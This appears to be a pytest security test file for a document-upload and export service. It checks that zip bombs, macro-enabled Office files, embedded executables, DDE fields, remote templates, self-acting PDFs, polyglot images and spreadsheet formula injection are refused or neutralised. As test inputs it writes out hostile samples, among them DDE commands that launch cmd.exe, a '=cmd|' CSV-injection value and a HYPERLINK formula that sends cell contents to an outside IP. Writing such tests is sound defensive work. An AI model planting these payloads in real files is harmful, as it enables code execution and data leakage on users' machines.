"""Findings 8 and 11: uploads are read past their first bytes, zip bombs are measured before
anything parses them, names fit their column, exports never carry a live formula."""

import io
import zipfile

import pytest

from luoshi.lib.cells import neutralise
from luoshi.lib.errors import ActionError
from luoshi.lib.file_checks import ZipTooLarge, check_zip_budget
from luoshi.lib.uploads import MAX_NAME_LENGTH, check_upload
from luoshi.lib.xlsx import ImportRejected, read_table, write_table

from . import office_files as f

CONTENT_TYPES_DOCM = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)  # fmt: skip
REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
)  # fmt: skip
HYPERLINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


def refused(name: str, data: bytes) -> str:
    with pytest.raises(ActionError) as e:
        check_upload(name, data)
    return e.value.message


# --- zip bombs (finding 8) -------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb():
    return f.zip_bomb_xlsx(216)


def test_a_real_zip_bomb_is_refused_before_openpyxl_opens_it(bomb, monkeypatch):
    assert len(bomb) < 2 * 1024 * 1024  # a small upload…
    declared = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert declared > 200 * 1024 * 1024  # …that unpacks to over 200 MB

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to open a zip bomb")

    monkeypatch.setattr("luoshi.lib.xlsx.load_workbook", never)
    with pytest.raises(ImportRejected) as rejected:
        read_table(bomb, required=["单位"], known=["单位"])
    assert "MB" in rejected.value.errors[0].message
    assert "MB" in refused("评分.xlsx", bomb)


def test_a_high_ratio_part_is_refused_even_under_the_size_limit():
    package = f.with_parts(f.docx(), {"word/media/filler.xml": b"\x00" * (30 * 1024 * 1024)})
    with pytest.raises(ZipTooLarge):
        check_zip_budget(package, "报告.docx")


def test_ordinary_workbooks_and_documents_pass():
    assert check_upload("成绩.xlsx", f.xlsx()).content_type.endswith("sheet")
    assert check_upload("报告.docx", f.docx()).content_type.endswith("document")
    rows = read_table(f.xlsx(), required=["单位"], known=["单位", "得分"])
    assert rows == [(2, {"单位": "甲镇", "得分": "90"})]


# --- what offices open (finding 11) -----------------------------------------------------------


def test_word_and_excel_files_with_macros_are_refused():
    vba = f.with_parts(f.docx(), {"word/vbaProject.bin": f.ole({"VBA/dir": b"Attribute"})})
    assert "宏" in refused("通知.docx", vba)
    docm = f.with_parts(f.docx(), {}, replace={"[Content_Types].xml": CONTENT_TYPES_DOCM})
    assert "宏" in refused("通知.docx", docm)
    xls = f.ole({"Workbook": b"\x09\x08" * 100, "_VBA_PROJECT_CUR/VBA/dir": b"Attribute"})
    assert "宏" in refused("台账.xls", xls)


def test_programs_embedded_in_documents_are_refused():
    package = f.ole({"\x01Ole10Native": f.ole10native(f.PE), "\x01CompObj": b"Package"})
    embedded = f.with_parts(f.docx(), {"word/embeddings/oleObject1.bin": package})
    assert "程序" in refused("汇报.docx", embedded)
    raw = f.with_parts(f.docx(), {"word/media/image9.png": f.PE})
    assert "程序" in refused("汇报.docx", raw)
    in_xls = f.ole({"Workbook": b"\x09\x08" * 100, "Attachment": f.PE})
    assert "程序" in refused("台账.xls", in_xls)


def test_an_executable_behind_an_ole_header_is_refused():
    disguised = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f.PE
    assert "不是" in refused("台账.xls", disguised)
    appended = f.ole({"Workbook": b"\x09\x08" * 100}) + f.PE
    assert "程序" in refused("台账.xls", appended)
    wrong_kind = f.ole({"WordDocument": b"\xec\xa5" * 100})  # a Word file named .xls
    assert "不是" in refused("台账.xls", wrong_kind)
    assert check_upload("台账.xls", f.ole({"Workbook": b"\x09\x08" * 100}))
    assert check_upload("通知.doc", f.ole({"WordDocument": b"\xec\xa5" * 100}))


def test_excel_4_macro_sheets_shortcuts_and_dde_links_are_refused():
    # BIFF: BOF, then a BOUNDSHEET record whose sheet type byte is 1 (an Excel 4 macro sheet).
    bof = b"\x09\x08\x10\x00" + b"\x00\x06\x05\x00" + b"\x00" * 12
    sheet = b"\x85\x00\x0c\x00" + b"\x00\x00\x00\x00" + b"\x00\x01" + b"\x04\x00Auto"
    assert "宏" in refused("台账.xls", f.ole({"Workbook": bof + sheet}))
    shortcut = f.ole10native(b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64, "calc.lnk")
    doc = f.ole({"WordDocument": b"\xec\xa5" * 100, "ObjectPool/_1/\x01Ole10Native": shortcut})
    assert "程序" in refused("通知.doc", doc)
    dde = f.with_parts(f.xlsx(), {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})  # fmt: skip
    assert "DDE" in refused("台账.xlsx", dde)
    locked = f.ole({"EncryptedPackage": b"\x00" * 100, "EncryptionInfo": b"\x04\x00"})
    assert "密码" in refused("台账.xlsx", locked)


def test_remote_templates_and_dde_fields_are_refused_but_links_are_not():
    template = f.with_parts(f.docx(), {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})
    assert "203.0.113.9" in refused("方案.docx", template)
    linked = f.with_parts(f.docx(), {"word/_rels/settings.xml.rels": HYPERLINK})
    assert check_upload("方案.docx", linked)
    source = zipfile.ZipFile(io.BytesIO(f.docx())).read("word/document.xml")
    dde = source.replace(
        b"</w:body>",
        b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:body>',
    )
    assert "DDE" in refused("方案.docx", f.with_parts(f.docx(), {}, {"word/document.xml": dde}))


@pytest.mark.parametrize(
    "data",
    [
        f.pdf_with_open_action(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        f.pdf_with_open_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        f.pdf_with_js_in_object_stream(),
        f.pdf_with_open_action(b"<< /Type /Action /S /Launch /F (cmd.exe) >>"),
        f.pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
                *f.PAGES,
                b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>",
            ]
        ),
    ],
    ids=["javascript", "hex-escaped", "object-stream", "launch", "embedded-file"],
)
def test_pdfs_that_act_by_themselves_are_refused(data):
    assert "PDF" in refused("说明.pdf", data)


def test_a_plain_pdf_passes():
    assert check_upload("说明.pdf", f.plain_pdf()).content_type == "application/pdf"


def test_images_that_are_also_web_pages_are_refused():
    assert check_upload("现场.png", f.png()) and check_upload("现场.jpg", f.jpeg())
    assert "图片" in refused("现场.png", f.png(b"<html><script>alert(1)</script></html>"))
    assert "图片" in refused("现场.png", f.png(f.PE))
    broken = b"\x89PNG\r\n\x1a\n" + b"<html><body>not a picture</body></html>"
    assert "图片" in refused("现场.png", broken)


# --- names and exports ----------------------------------------------------------------------


def test_a_long_file_name_is_cut_to_its_column_keeping_the_extension():
    long_name = "关于" + "某某" * 114 + ".pdf"  # 234 characters, the probe's length
    assert len(long_name) == 234
    checked = check_upload(long_name, f.plain_pdf())
    assert len(checked.name) == MAX_NAME_LENGTH and checked.name.endswith(".pdf")


@pytest.mark.django_db
def test_a_long_file_name_is_stored(people, tree):
    from luoshi.directives.actions import do_create_source
    from luoshi.directives.models import SourceFile

    do_create_source(
        kind="meeting", title="常务会", date="2026-03-02", owner_unit=tree.root,
        files=[("会" * 240 + ".pdf", f.plain_pdf())], actor=people.office,
    )  # fmt: skip
    assert len(SourceFile.objects.get().name) == MAX_NAME_LENGTH


def test_exported_text_never_becomes_a_formula():
    hostile = ['=HYPERLINK("http://203.0.113.9/?"&A1,"点此查看")', "@SUM(1)", "+1", "-2+3"]
    data = write_table("任务", ["标题"], [[h] for h in hostile] + [[-5], ["正常"]])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere
    assert "<v>-5</v>" in sheet  # numbers stay numbers
    read = [r["标题"] for _, r in read_table(data, required=["标题"], known=["标题"])]
    assert read[:4] == hostile  # an import of the export reads the same text back
    from openpyxl import load_workbook

    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix


def test_csv_results_neutralise_unit_codes():
    import csv

    import numpy as np

    from luoshi.evaluation.engine.coinr import Results, write_results

    out = io.StringIO()
    write_results(
        Results(["=cmd|' /C calc'!A0", "A"], ["Index"], np.array([[1.5], [-2.0]]), ["Rank"],
                np.array([[1], [2]])),
        out,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'=cmd|' /C calc'!A0" and rows[2][1] == "-2.0"
    assert neutralise(-3) == -3
